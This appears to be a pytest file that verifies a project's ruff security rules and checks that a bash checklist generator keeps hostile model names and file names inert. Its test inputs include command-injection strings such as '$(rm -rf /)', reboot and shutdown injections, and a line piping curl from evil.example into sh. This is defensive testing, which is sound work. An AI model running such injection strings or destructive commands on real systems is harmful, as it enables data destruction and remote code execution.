"""Static security checks over our own code, and the checklist script's quoting under hostile input.

1. The dangerous-construct scan is ruff's bandit-style `S` rules, run over the whole tree by `make lint`
   (and so by `.ci/run`): no `eval`/`exec` (S307/S102), no `pickle` loads (S301), no `yaml.load`
   without a safe loader (S506), no `shell=True` (S602/S604), no `os.system`/`os.popen` (S605).
   The tests here prove the configuration really applies those rules to shipped code, and that ruff
   catches each construct on a known-bad snippet (a check that cannot fail is a defect).
2. `delivery_checklist` interpolates `--model` and `--output` into a bash script: hostile values
   (command substitution, quote breaking, backticks, newlines) must stay inert. Checked three
   ways: `bash -n` parses the script, `shlex` reads each assignment back as exactly one word
   with the original value, and bash itself evaluates the assignment block with a canary file
   that would appear if anything was executed.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
SHIPPED = ("assistant", "tools", "evals")
RUFF = Path(sys.executable).with_name("ruff")


def test_ruff_security_rules_cover_shipped_code():
    config = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["ruff"]["lint"]
    assert "S" in config["select"]
    ignored = set(config.get("ignore", []))
    assert not {r for r in ignored if r.startswith("S")}, "security rules must not be ignored globally"
    for pattern, rules in config.get("per-file-ignores", {}).items():
        if any(r.startswith("S") for r in rules):
            assert not pattern.startswith(SHIPPED), f"{pattern}: security rules ignored in shipped code"


@pytest.mark.skipif(not RUFF.exists(), reason="ruff is installed by `make setup` (dev extra)")
def test_ruff_catches_each_dangerous_construct(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import os\nimport pickle\nimport subprocess\nimport yaml\n\n"
        "def f(x):\n"
        "    eval(x)\n    exec(x)\n    os.system(x)\n    subprocess.run(x, shell=True)\n"
        "    yaml.load(x)\n    pickle.loads(x)\n",
        encoding="utf-8",
    )
    out = subprocess.run(
        [str(RUFF), "check", "--no-cache", "--isolated", "--select", "S", "--output-format", "concise", str(bad)],
        capture_output=True,
        text=True,
        check=False,
    ).stdout
    for rule in ("S307", "S102", "S605", "S602", "S506", "S301"):
        assert rule in out, f"ruff did not report {rule}:\n{out}"


# ------------------------------------------------------------------ the checklist script

HOSTILE = [
    "$(rm -rf /)",
    '"; reboot; "',
    "'; reboot; '",
    "`reboot`",
    "A100\nreboot",
    "A100 80GB SXM; shutdown -h now",
    "${IFS}reboot${IFS}",
    'A100\' "$(id)" `id` \\',
    "$'\\x41'",
    "!!",
    "A100 && curl http://evil.example | sh",
    "中文型号 A100 80G；$(whoami)",
    "-- --help",
]


def _build(model: str | None = None, output_file: str = "gpu_acceptance.txt"):
    from tools.diagnosis.checklist import build_checklist

    return build_checklist(8, model, output_file)


def _assignments(script: str) -> dict[str, str]:
    """Read `NAME=value` lines the way bash would tokenise them (via shlex, POSIX mode)."""
    out: dict[str, str] = {}
    lines = script.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        for name in ("OUT", "EXPECT_MODEL", "EXPECT"):
            if line.startswith(name + "="):
                chunk = line
                # a quoted value may span lines (a newline inside single quotes)
                while True:
                    try:
                        words = shlex.split(chunk, comments=False, posix=True)
                        break
                    except ValueError:
                        i += 1
                        chunk += "\n" + lines[i]
                assert len(words) == 1, f"{name} assignment splits into {words!r}"
                key, _, value = words[0].partition("=")
                out[key] = value
        i += 1
    return out


@pytest.mark.parametrize("model", HOSTILE)
def test_hostile_model_is_quoted(model):
    out = _build(model)
    values = _assignments(out.script)
    assert values["EXPECT_MODEL"] == model.strip()
    assert values["EXPECT"] == f"8x {model.strip()}"


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
@pytest.mark.parametrize("model", HOSTILE)
def test_hostile_model_script_parses_with_bash_n(model, tmp_path):
    path = tmp_path / "check.sh"
    path.write_text(_build(model).script, encoding="utf-8")
    proc = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True, timeout=10)
    assert proc.returncode == 0, proc.stderr


def _header(script: str) -> str:
    """The assignment block at the top of the script (everything before the first function)."""
    return script.split("\nsection()", 1)[0]


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
def test_bash_evaluates_hostile_values_without_running_them(tmp_path):
    canary = tmp_path / "pwned"
    payloads = [
        f"$(touch {canary})",
        f"`touch {canary}`",
        f'"; touch {canary}; "',
        f"'; touch {canary}; '",
        f"A100\ntouch {canary}",
        f"x; touch {canary}",
    ]
    for payload in payloads:
        for kwargs in ({"model": payload}, {"output_file": payload.replace("\n", " ") + ".txt"}):
            out = _build(**kwargs)
            # only the assignments run (the rest would call nvidia-smi); print what bash stored
            probe = _header(out.script) + '\nprintf "%s\\0" "$OUT" "$EXPECT_MODEL" "$EXPECT"\n'
            proc = subprocess.run(["bash", "-c", probe], capture_output=True, timeout=10, cwd=tmp_path)
            assert proc.returncode == 0, proc.stderr
            assert not canary.exists(), f"payload executed: {payload!r}"
            got = proc.stdout.decode().split("\0")[:3]
            if "model" in kwargs:
                assert got[1] == payload.strip()
            else:
                assert got[0] == kwargs["output_file"]


def test_output_file_with_a_newline_is_rejected_bilingually():
    from tools.errors import ToolInputError

    with pytest.raises(ToolInputError) as err:
        _build(output_file="a.txt\nreboot")
    assert err.value.zh and err.value.en


def test_checklist_cli_with_hostile_model_exits_cleanly(tmp_path):
    from click.testing import CliRunner

    from assistant.cli import cli

    result = CliRunner().invoke(cli, ["checklist", "--model", '"; reboot; " $(rm -rf /) `id`'])
    assert result.exit_code == 0, result.output
    path = tmp_path / "c.sh"
    path.write_text(result.output, encoding="utf-8")
    if shutil.which("bash"):
        assert subprocess.run(["bash", "-n", str(path)], timeout=10).returncode == 0
